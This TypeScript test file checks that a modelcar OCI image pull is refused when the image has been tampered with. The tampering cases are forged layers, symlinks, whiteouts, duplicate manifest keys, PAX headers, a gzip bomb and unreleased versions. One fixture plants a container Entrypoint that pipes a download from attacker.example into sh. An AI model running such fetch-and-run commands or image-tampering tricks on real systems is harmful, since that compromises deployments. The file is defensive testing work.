/**
 * Reading a modelcar back (src/registry/oci-pull.ts) against a real registry (docker-registry 2.8 on
 * loopback, test/support/modelcar-world.ts): a real release pulled by digest gives the very files the
 * release holds; and each attack on the image is refused, naming the reference: a blob changed in
 * the registry's storage, a base layer that also carries a Triton model, the model swapped with the
 * annotations rewritten, another release's manifest.json, three layers, a whiteout, a symlink, a tag.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { after, before, describe, test } from "node:test";
import { isUserError } from "../../src/common/errors.ts";
import { MemoryLogger } from "../../src/common/logger.ts";
import { ANNOTATION, modelsLayer } from "../../src/registry/oci-modelcar.ts";
import { pullModelcar } from "../../src/registry/oci-pull.ts";
import { checkModelcar } from "../../src/gitops/modelcar-check.ts";
import { verifyPromotion, type ProvenanceCheck } from "../../src/gitops/promotion-check.ts";
import type { TrustedRegistry } from "../../src/gitops/trust-policy.ts";
import { pushFiles, seedBareRemote } from "../support/git.ts";
import { LocalStore } from "../../src/registry/local-store.ts";
import { packageModel } from "../../src/registry/package.ts";
import { create, WriteEntry } from "tar";
import { ociRegistrySkip } from "../support/oci-registry.ts";
import { pushImage, pushUnreleased, readImage, startModelcarWorld, tarLayer, type ModelcarWorld } from "../support/modelcar-world.ts";

const sha256 = (bytes: Uint8Array | string): string => createHash("sha256").update(bytes).digest("hex");
const ENTRY = { mtime: new Date("2000-01-01T00:00:00Z") };

describe("pulling a modelcar by digest from docker-registry 2.8", { skip: ociRegistrySkip("the modelcar pull tests") }, () => {
  let world: ModelcarWorld;
  let scratch: string;
  let count = 0;
  const fresh = async (): Promise<string> => mkdtemp(join(scratch, `out-${++count}-`));
  const pull = async (digest: string, dir?: string) =>
    pullModelcar({ client: world.client(), digest, dir: dir ?? (await fresh()), logger: new MemoryLogger() });
  /** The UserError pulling `digest` throws, its message matching each pattern and naming the reference. */
  const refused = async (digest: string, ...patterns: RegExp[]): Promise<void> => {
    const dir = await fresh();
    try {
      await pull(digest, dir);
    } catch (error) {
      assert.ok(isUserError(error), `expected a UserError, got ${String(error)}`);
      assert.ok(error.message.includes(`oci://${world.oci.registry}/octo/models/toy`), error.message);
      for (const pattern of patterns) assert.match(error.message, pattern);
      // Nothing of the package is written before every layer checked out.
      assert.deepEqual(await readdir(dir), []);
      return;
    }
    assert.fail(`pulling ${digest} was not refused`);
  };

  before(async () => {
    world = await startModelcarWorld();
    scratch = await mkdtemp(join(world.root, "pulls-"));
  });
  after(async () => {
    await world?.cleanup();
  });

  test("a release's modelcar gives the release's own files back, and SHA256SUMS hashes to the package digest", async () => {
    const { gated } = world.releases;
    const dir = await fresh();
    const pulled = await pull(gated.digest, dir);
    assert.equal(pulled.imageDigest, gated.digest);
    assert.equal(pulled.manifestSha256, sha256(gated.manifestBytes));
    assert.deepEqual(pulled.manifest, gated.manifest);
    const stored = (await readdir(gated.dir)).filter((name) => name !== "triton-model-repository.tar.gz" && name !== "RELEASE-NOTES.md");
    assert.deepEqual((await readdir(dir)).sort(), stored.sort());
    for (const name of stored) assert.ok((await readFile(join(dir, name))).equals(await readFile(join(gated.dir, name))), name);
    assert.equal(sha256(await readFile(join(dir, "SHA256SUMS"))), gated.manifest.digest);
    // The same as the release's model.onnx, hashed here.
    assert.equal(sha256(await readFile(join(dir, "model.onnx"))), sha256(await readFile(join(world.toyDir, "model.onnx"))));
  });

  test("a layer blob overwritten in the registry's storage is refused, naming both digests", async () => {
    const { image } = await readImage(world.client(), world.releases.other.digest);
    const hex = image.layers[1]!.digest.slice("sha256:".length);
    const file = join(world.oci.storage, "docker/registry/v2/blobs/sha256", hex.slice(0, 2), hex, "data");
    const original = await readFile(file);
    // A valid layer with other bytes: the gated release's model in its place.
    const replacement = (await readImage(world.client(), world.releases.gated.digest)).layers[1]!;
    await writeFile(file, replacement);
    try {
      await refused(world.releases.other.digest, new RegExp(`digest is sha256:${sha256(replacement)}, not sha256:${hex}`));
    } finally {
      await writeFile(file, original);
    }
  });

  test("a base layer that also carries models/evil/config.pbtxt (Triton would load it) is refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const busybox = await readFile("/bin/busybox");
    const base = await tarLayer([
      new WriteEntry({ path: "bin/", type: "Directory", mode: 0o755, ...ENTRY }),
      new WriteEntry({ path: "bin/busybox", mode: 0o755, ...ENTRY }, busybox),
      ...["sh", "ln", "sleep", "echo", "ls", "cat"].map(
        (applet) => new WriteEntry({ path: `bin/${applet}`, type: "SymbolicLink", mode: 0o777, linkpath: "busybox", ...ENTRY }),
      ),
      new WriteEntry({ path: "models/evil/config.pbtxt", mode: 0o644, ...ENTRY }, 'name: "evil"\nbackend: "python"\n'),
    ]);
    const digest = await pushImage(world.client(), { layers: [base, layers[1]!], annotations: image.annotations!, config });
    await refused(digest, /layer 0 holds models\/evil\/config\.pbtxt/, /would change what \/mnt\/models serves/);
  });

  test("model.onnx swapped for other bytes, the annotations rewritten to match, manifest.json the release's: refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const other = await readFile(join(world.toyDir, "other.onnx"));
    const swapped = await modelsLayer({ model: "toy", layout: "triton-model-repository", modelBytes: other });
    // The annotations say the new model's sha256: they then disagree with manifest.json.
    const rewritten = { ...image.annotations!, [ANNOTATION.modelSha256]: sha256(other) };
    await refused(
      await pushImage(world.client(), { layers: [layers[0]!, swapped.gz], annotations: rewritten, config }),
      new RegExp(`annotation ${ANNOTATION.modelSha256.replaceAll(".", "\\.")} says "${sha256(other)}"`),
      /the image is not the release it claims to be/,
    );
    // The annotations left as they were: the layer's model is checked against manifest.json.
    await refused(
      await pushImage(world.client(), { layers: [layers[0]!, swapped.gz], annotations: image.annotations!, config }),
      new RegExp(`models/toy/1/model\\.onnx in layer 1 has sha256 ${sha256(other).slice(0, 12)}`),
    );
  });

  test("an annotation pointing at another release's manifest.json is refused: its name, version and digest differ", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    await world.client().pushBlob(world.releases.other.manifestBytes);
    const annotations = { ...image.annotations!, [ANNOTATION.manifestSha256]: sha256(world.releases.other.manifestBytes) };
    await refused(
      await pushImage(world.client(), { layers, annotations, config }),
      /annotation org\.opencontainers\.image\.version says "1\.0\.0", but the manifest\.json it names \(toy@1\.1\.0\) has version "1\.1\.0"/,
    );
  });

  test("three layers, a whiteout in layer 1 and a symlink in layer 1 are refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const extra = await tarLayer([new WriteEntry({ path: "models/", type: "Directory", mode: 0o755, ...ENTRY })]);
    await refused(
      await pushImage(world.client(), { layers: [...layers, extra], annotations: image.annotations!, config }),
      /has 3 layers; a modelcar has exactly 2/,
    );
    const model = gunzipSync(layers[1]!);
    const onnx = await readFile(join(world.toyDir, "model.onnx"));
    assert.ok(model.includes(onnx), "layer 1 holds the model");
    const whiteout = await tarLayer([
      new WriteEntry({ path: "models/", type: "Directory", mode: 0o755, ...ENTRY }),
      new WriteEntry({ path: "models/.wh.toy", mode: 0o644, ...ENTRY }, ""),
    ]);
    await refused(
      await pushImage(world.client(), { layers: [layers[0]!, whiteout], annotations: image.annotations!, config }),
      /layer 1 holds the whiteout models\/\.wh\.toy/,
    );
    const link = await tarLayer([
      new WriteEntry({ path: "models/", type: "Directory", mode: 0o755, ...ENTRY }),
      new WriteEntry({ path: "models/toy", type: "SymbolicLink", mode: 0o777, linkpath: "/etc", ...ENTRY }),
    ]);
    await refused(
      await pushImage(world.client(), { layers: [layers[0]!, link], annotations: image.annotations!, config }),
      /layer 1 holds a symbolic link models\/toy → \/etc/,
    );
  });

  test("a tag is not a digest: pin the digest", async () => {
    await world.client().pushManifest((await world.client().pullManifest(world.releases.gated.digest)).bytes, "1.0.0");
    await assert.rejects(
      pull("1.0.0"),
      (error: Error) => isUserError(error) && /names no image digest: pin the digest/.test(error.message),
    );
  });

  test("config diff_ids that are not the layers' are refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const wrong = [`sha256:${"0".repeat(64)}`, `sha256:${sha256(gunzipSync(layers[1]!))}`];
    await refused(
      await pushImage(world.client(), { layers, annotations: image.annotations!, config, diffIds: wrong }),
      /rootfs\.diff_ids .* are not the uncompressed layers' digests/,
    );
  });

  test("a manifest with a second, upper-case LAYERS key (Go's JSON reads keys case-insensitively, the last one winning) is refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    // The lower-case keys are the release's; containerd would read LAYERS, an attacker's layer list.
    const evil = { ...image, LAYERS: [image.layers[1]] };
    for (const blob of [config, ...layers]) await world.client().pushBlob(blob);
    const digest = await world.client().pushManifest(Buffer.from(JSON.stringify(evil)));
    await refused(digest, /its manifest is not the one modelship writes/);
  });

  test("a config with an Entrypoint (KServe sets only the args, so it would run) is refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const parsed = JSON.parse(config.toString("utf8")) as { config: Record<string, unknown> };
    parsed.config.Entrypoint = ["/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"];
    await refused(
      await pushImage(world.client(), { layers, annotations: image.annotations!, config: Buffer.from(JSON.stringify(parsed)) }),
      /its config is not the one modelship writes/,
    );
  });

  test("a base layer with a PAX header (its path read differently by node-tar and by Go or Python) is refused", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const busybox = await readFile("/bin/busybox");
    const tar: Uint8Array[] = [];
    // node-tar writes a PAX record ('x') for a name longer than ustar holds, unless told not to.
    const entries = [
      new WriteEntry({ path: "bin/", type: "Directory", mode: 0o755, ...ENTRY }),
      new WriteEntry({ path: "bin/busybox", mode: 0o755, ...ENTRY }, busybox),
      new WriteEntry({ path: `bin/${"s".repeat(120)}`, type: "SymbolicLink", linkpath: "busybox", ...ENTRY }),
    ];
    for await (const chunk of create({ portable: true, mtime: ENTRY.mtime }, entries)) tar.push(chunk);
    const gz = Buffer.from(gzipSync(Buffer.concat(tar)));
    await refused(
      await pushImage(world.client(), { layers: [gz, layers[1]!], annotations: image.annotations!, config }),
      /layer 0: a tar header of type "x"/,
    );
  });

  test("a models layer that unpacks to far more than its model (a gzip bomb) is cut off at the model's size", async () => {
    const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
    const bomb = Buffer.from(
      gzipSync(Buffer.alloc(world.releases.gated.manifest.files.find((file) => file.role === "model")!.bytes + 20 * 1024 * 1024)),
    );
    assert.ok(bomb.byteLength < 1024 * 1024, "small packed");
    await refused(
      await pushImage(world.client(), { layers: [layers[0]!, bomb], annotations: image.annotations!, config }),
      /layer 1 unpacks to more than the \d+ bytes allowed/,
    );
  });

  describe("an image must be the trusted registry's release (checkModelcar)", () => {
    const check = async (digest: string, repository?: string, model = "toy") =>
      checkModelcar({
        client: world.client(repository),
        digest,
        store: new LocalStore({ root: world.store }),
        dir: await fresh(),
        model,
        doing: "fetch",
        logger: new MemoryLogger(),
      });
    /** Packages the toy model as `version` again (another manifest.json: another time) and pushes its image, unreleased. */
    const unreleased = async (version: string): Promise<string> => {
      const pkg = await packageModel({
        model: "toy",
        version,
        tag: `toy/v${version}`,
        modelPath: join(world.toyDir, "model.onnx"),
        gateReportPath: join(world.toyDir, "evaluation", "gate-report.json"),
        allowUngated: false,
        outDir: join(scratch, `forged-${version}-${++count}`),
        toolVersion: "test",
        now: () => new Date("2026-12-24T00:00:00Z"),
      });
      return pushUnreleased(world.client(), pkg.dir);
    };

    test("the image of a release passes, naming the release and the image digest", async () => {
      const checked = await check(world.releases.gated.digest);
      assert.equal(checked.model.version, "1.0.0");
      assert.equal(checked.imageDigest, world.releases.gated.digest);
      assert.equal(checked.stored.manifestSha256, sha256(world.releases.gated.manifestBytes));
    });

    test("an image of toy@1.0.0 built from another package than the released one is refused: it is not that release", async () => {
      const forged = await unreleased("1.0.0");
      await assert.rejects(
        check(forged),
        (error: Error) =>
          isUserError(error) &&
          /carries a manifest\.json of toy@1\.0\.0 with sha256 [0-9a-f]{12}, but .* released toy@1\.0\.0 with [0-9a-f]{12}: the image is not that release/.test(
            error.message,
          ),
      );
    });

    test("an image of a version the registry never released is refused before its layers are pulled", async () => {
      const forged = await unreleased("9.9.9");
      const layers = (await world.client().pullManifest(forged)).manifest as { layers: { digest: string }[] };
      const before = world.oci.requests().length;
      await assert.rejects(
        check(forged),
        (error: Error) => isUserError(error) && /claims to be toy@9\.9\.9, which .* does not hold/.test(error.message),
      );
      const pulled = world.oci
        .requests()
        .slice(before)
        .map((request) => request.uri);
      for (const layer of layers.layers)
        assert.ok(!pulled.some((uri) => uri.includes(layer.digest)), `layer ${layer.digest} was not pulled`);
    });

    test("an image pushed under another model's repository is refused", async () => {
      const { image, layers, config } = await readImage(world.client(), world.releases.gated.digest);
      const churn = world.client("octo/models/churn");
      for (const blob of [config, ...layers, world.releases.gated.manifestBytes]) await churn.pushBlob(blob);
      const digest = await churn.pushManifest(image);
      await assert.rejects(
        check(digest, "octo/models/churn", "churn"),
        (error: Error) => isUserError(error) && /holds toy@1\.0\.0, but its repository is the one of the model churn/.test(error.message),
      );
    });

    test("the image of a retired version is refused", async () => {
      await new LocalStore({ root: world.store }).retire("toy", "1.1.0", { reason: "leaks a feature" });
      await assert.rejects(
        check(world.releases.other.digest),
        (error: Error) => isUserError(error) && /cannot fetch toy@1\.1\.0: it was retired/.test(error.message),
      );
    });
  });

  describe("verify-promotion with provenance on asks for an attestation of the image digest", () => {
    const FILE = "values.yaml";
    /** verify-promotion of a change deploying `uri`, the registry's provenance on and `attest` deciding it. */
    const verify = async (uri: string, attest: ProvenanceCheck) => {
      const bare = seedBareRemote(await fresh(), { [FILE]: "model:\n  storageUri: s3://none\n" });
      pushFiles(bare, "change", { [FILE]: `model:\n  storageUri: ${uri}\n` }, { from: "main" });
      const registry: TrustedRegistry = {
        where: "verify.registries[0]",
        spec: world.store,
        folder: world.store,
        tagFormat: "{model}/v{version}",
        provenance: { workflow: ".github/workflows/model.yml", ref: "refs/heads/main", events: ["push"], issuer: "https://issuer" },
        oci: { registry: world.oci.registry, repository: "octo/models" },
      };
      return verifyPromotion({
        remote: bare,
        base: "main",
        head: "change",
        loadRules: () =>
          Promise.resolve({
            file: "modelship.yaml",
            registries: [registry],
            targets: [{ kind: "yaml-path", file: FILE, uriPath: "model.storageUri" }],
            rulesChanges: "fail",
            ruleFiles: [],
          }),
        openRegistry: () => new LocalStore({ root: world.store }),
        checkProvenance: attest,
        openOci: (reference) => world.client(reference.repository),
        logger: new MemoryLogger(),
      });
    };

    test("the image's attestation is asked for by its digest, and the verdict names it", async () => {
      const asked: (string | undefined)[] = [];
      const result = await verify(world.releases.gated.uri, (_registry, release, image) => {
        asked.push(image);
        return Promise.resolve({ ok: true, detail: `release ${release.manifest.version} attested; the image ${image ?? "none"} attested` });
      });
      assert.equal(result.ok, true, result.markdown);
      assert.deepEqual(asked, [world.releases.gated.digest]);
      assert.match(
        result.uris[0]!.detail,
        new RegExp(`provenance ✅ release 1\\.0\\.0 attested; the image ${world.releases.gated.digest} attested`),
      );
      assert.equal(result.uris[0]!.provenance, "verified");
    });

    test("an image without its own attestation fails, though the release verifies", async () => {
      const result = await verify(world.releases.gated.uri, (_registry, _release, image) =>
        Promise.resolve(
          image === undefined ? { ok: true, detail: "release attested" } : { ok: false, detail: `the image ${image} has no attestation` },
        ),
      );
      assert.equal(result.ok, false);
      assert.match(result.uris[0]!.detail, /but its provenance does not verify: the image sha256:[0-9a-f]{64} has no attestation/);
    });
  });

  after(async () => {
    if (scratch !== undefined) await rm(scratch, { recursive: true, force: true });
  });
});
